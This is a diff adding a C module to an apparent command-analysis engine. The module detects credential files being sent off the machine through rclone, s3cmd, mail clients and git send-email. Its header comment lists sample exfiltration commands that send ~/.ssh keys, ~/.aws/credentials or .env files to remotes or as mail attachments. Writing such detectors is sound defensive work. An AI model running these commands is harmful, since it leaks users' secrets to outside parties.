@@ -1,0 +1,107 @@
+/* an_send.c — credentials handed to a program that sends files away (evasion round 3).
+ *
+ * `rclone copy ~/.ssh remote:b`, `s3cmd put ~/.aws/credentials s3://…`, `mutt -a KEY --`,
+ * `mail -A KEY`, `mailx -a .env`, `git send-email ~/.ssh/id_rsa`: the file to send is an
+ * operand or an attachment option, not something the command prints into a pipe, so the
+ * pipe-following of an_shared.c does not see it. A credential path (or the home
+ * directory itself) in that place is exfil.secret-to-network, unless every host the
+ * sender names is the machine itself (an_net_secret_used). */
+#include <string.h>
+
+#include "engine/an_common.h"
+
+/* Judge word w of cmd as a file the command sends. */
+static void sends(an_state *s, int idx, const char *w) {
+    if (!*w || !strcmp(w, "-")) return;
+    lh_path p;
+    lh_path_class cls = an_path(s, idx, w, &p);
+    if (cls == LH_PATH_SECRET || (p.flags & LH_PF_IS_HOME)) an_net_secret_used(s, idx, p.norm);
+}
+
+/* A remote of rclone (NAME:path) or a URL (s3://…), not a local path. */
+static int isRemote(const char *a) {
+    const char *colon = strchr(a, ':'), *slash = strchr(a, '/');
+    return colon && colon > a && (!slash || colon < slash);
+}
+
+/* rclone copy|copyto|sync|move|moveto|bisync SRC DST: a local SRC sent to a remote DST. */
+static void rclone(an_state *s, int idx, const lh_cmd *cmd) {
+    static const char *const lo[] = {"--config", "--include", "--exclude", "--filter", "--transfers",
+                                     "--checkers", "--log-file", "--min-age", "--max-age", NULL};
+    int ops[4];
+    int n = an_operands(cmd, 1, "", lo, ops, 4);
+    if (n < 3) return;
+    const char *v = cmd->argv[ops[0]].s;
+    if (strcmp(v, "copy") && strcmp(v, "copyto") && strcmp(v, "sync") && strcmp(v, "move") &&
+        strcmp(v, "moveto") && strcmp(v, "bisync"))
+        return;
+    const char *src = cmd->argv[ops[1]].s, *dst = cmd->argv[ops[2]].s;
+    if (!isRemote(src) && isRemote(dst)) sends(s, idx, src);
+}
+
+/* s3cmd put|sync SRC… s3://DST */
+static void s3cmd(an_state *s, int idx, const lh_cmd *cmd) {
+    int ops[16];
+    int n = an_operands(cmd, 1, "c", (const char *const[]){"--config", NULL}, ops, 16);
+    if (n < 3 || (strcmp(cmd->argv[ops[0]].s, "put") && strcmp(cmd->argv[ops[0]].s, "sync"))) return;
+    if (!isRemote(cmd->argv[ops[n - 1]].s)) return;
+    for (int k = 1; k < n - 1; k++) sends(s, idx, cmd->argv[ops[k]].s);
+}
+
+/* mutt -a FILE… [--] ADDR; mail/mailx/s-nail -A FILE, -a FILE, --attach[=]FILE. */
+static void mailer(an_state *s, int idx, const lh_cmd *cmd) {
+    int mutt = !strcmp(cmd->prog, "mutt") || !strcmp(cmd->prog, "neomutt");
+    for (int i = 1; i < cmd->argc; i++) {
+        const char *a = cmd->argv[i].s;
+        if (!strcmp(a, "--")) return;
+        if (!strncmp(a, "--attach=", 9)) { sends(s, idx, a + 9); continue; }
+        if (strcmp(a, "-a") && strcmp(a, "-A") && strcmp(a, "--attach")) continue;
+        if (!mutt) {
+            if (i + 1 < cmd->argc) sends(s, idx, cmd->argv[++i].s);
+            continue;
+        }
+        while (i + 1 < cmd->argc && cmd->argv[i + 1].s[0] != '-') sends(s, idx, cmd->argv[++i].s);   /* -a F1 F2 -- */
+    }
+}
+
+/* git send-email [options] FILE…: each file operand is mailed. */
+static void sendEmail(an_state *s, int idx, const lh_cmd *cmd) {
+    int at = -1;
+    for (int i = 1; i < cmd->argc && at < 0; i++)
+        if (!strcmp(cmd->argv[i].s, "send-email")) at = i;
+    if (at < 0) return;
+    for (int i = at + 1; i < cmd->argc; i++) {
+        const char *a = cmd->argv[i].s;
+        if (a[0] == '-') {
+            /* --to X, --cc X, --from X … take a value when it is not joined with = */
+            if (a[1] == '-' && !strchr(a, '=') && i + 1 < cmd->argc &&
+                (!strcmp(a, "--to") || !strcmp(a, "--cc") || !strcmp(a, "--bcc") || !strcmp(a, "--from") ||
+                 !strcmp(a, "--subject") || !strcmp(a, "--in-reply-to") || !strcmp(a, "--smtp-server")))
+                i++;
+            continue;
+        }
+        lh_path p;
+        if (an_path(s, idx, a, &p) == LH_PATH_SECRET || (p.flags & LH_PF_IS_HOME))
+            lh_emit(s->c, idx, LH_RULE(EXFIL), p.norm);
+    }
+}
+
+void an_send_dispatch(an_state *s, int idx, const lh_cmd *cmd) {
+    const char *p = cmd->prog;
+    switch (p[0]) {   /* the hot path: one switch on the first letter */
+    case 'r': if (!strcmp(p, "rclone")) rclone(s, idx, cmd); break;
+    case 's':
+        if (!strcmp(p, "s3cmd")) s3cmd(s, idx, cmd);
+        else if (!strcmp(p, "s-nail")) mailer(s, idx, cmd);
+        break;
+    case 'm':
+    case 'n':
+    case 'b':
+        if (!strcmp(p, "mutt") || !strcmp(p, "neomutt") || !strcmp(p, "mail") || !strcmp(p, "mailx") ||
+            !strcmp(p, "nail") || !strcmp(p, "bsd-mailx"))
+            mailer(s, idx, cmd);
+        break;
+    case 'g': if (!strcmp(p, "git")) sendEmail(s, idx, cmd); break;
+    default: break;
+    }
+}
